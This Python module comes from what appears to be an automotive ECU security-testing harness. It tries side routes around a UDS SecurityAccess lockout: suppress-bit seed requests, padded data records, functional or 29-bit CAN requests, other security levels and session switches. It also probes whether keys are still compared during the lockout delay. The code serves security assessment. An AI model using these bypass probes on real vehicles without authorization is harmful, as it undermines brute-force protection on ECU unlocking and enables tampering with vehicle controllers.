"""Request the seed of a locked-out level in other ways."""

from collections.abc import Callable

from attacks.security_access.lockout_window import LockoutWindow
from harness import Nrc, RawReply, Reply, Tester, uds

SideDoor = Callable[[], Reply | RawReply]

SUPPRESS = 0x80
COMPARED = (Nrc.INVALID_KEY, Nrc.EXCEEDED_NUMBER_OF_ATTEMPTS)


def side_doors(tester: Tester, level: int) -> dict[str, SideDoor]:
    """Return, by name, other forms of the seed request and other requests that might end the delay, as far as permitted."""
    security = tester.security
    doors: dict[str, SideDoor] = {
        f"27 {level | SUPPRESS:02X}": lambda: tester.request(uds.request_seed(level | SUPPRESS)),
        "a data record of one byte": lambda: security.request_seed(level, b"\x00"),
        "a data record of four bytes": lambda: security.request_seed(level, b"\x01\x02\x03\x04"),
    }
    can = tester.target.can
    if can.functional_id is not None and tester.allows("functional"):
        doors["a functional request"] = lambda: tester.request(uds.request_seed(level), is_functional=True)
    if can.extended_ids is False and can.request_id <= 0x7FF:
        doors["a 29-bit id"] = lambda: with_29_bits(tester, level)
    for other in tester.target.security:
        if other.level != level:
            doors[f"27 {other.level:02X}, another level"] = lambda other=other: security.request_seed(other.level)  # type: ignore[misc]
    for session in tester.sessions():
        doors[f"session 0x{session:02X}"] = lambda session=session: in_session(tester, level, session)  # type: ignore[misc]
    return doors


def in_session(tester: Tester, level: int, session: int) -> Reply:
    """Enter another session and request a seed there; return the answer, or the refusal of that session."""
    entered = tester.enter_session(session)
    if not entered.is_positive:
        return entered
    return tester.security.request_seed(level)


def with_29_bits(tester: Tester, level: int) -> RawReply:
    """Request a seed from the same CAN id written with 29 bits, and return the answer."""
    can = tester.target.can
    data = bytes((2, 0x27, level)).ljust(tester.frame_bytes, bytes((can.padding or 0,)))
    return tester.raw_frames([tester.frame(data, is_extended=True)], also_from={can.response_id})


def seed_in(tester: Tester, answer: Reply | RawReply, level: int) -> bytes:
    """Return the level's seed in an answer, or the part of it in the first frame; empty if the seed is missing or zero."""
    if isinstance(answer, Reply):
        is_own = len(answer.request) > 1 and answer.request[1] & ~SUPPRESS == level and answer.request[0] == 0x27
        return answer.pdu[2:] if is_own and answer.is_seed else b""
    head = bytes((0x67, level))
    for pdu in (frame.pdu for frame in answer.answers):
        if pdu[:2] == head and any(pdu[2:]):
            return pdu[2:]
    return b""


def is_key_compared(tester: Tester, level: int, window: LockoutWindow) -> Reply | None:
    """Request a seed without a positive answer, send a wrong key, and return the answer to it if the ECU compared it.

    Return None otherwise. A comparison shows only on an ECU that refuses keys with 0x24 while no seed is pending.
    """
    security = tester.security
    window.open()
    before = [security.send_key(level, security.wrong_key(level, window.seed, flip=flip)) for flip in (1, 2)]
    if not all(reply.is_refused_with(Nrc.REQUEST_SEQUENCE_ERROR) for reply in before):
        return None
    asked = tester.request(uds.request_seed(level | SUPPRESS))
    after = security.send_key(level, security.wrong_key(level, window.seed, flip=3))
    is_compared = not asked.is_negative and after.is_refused_with(*COMPARED)
    return after if is_compared and window.is_early else None
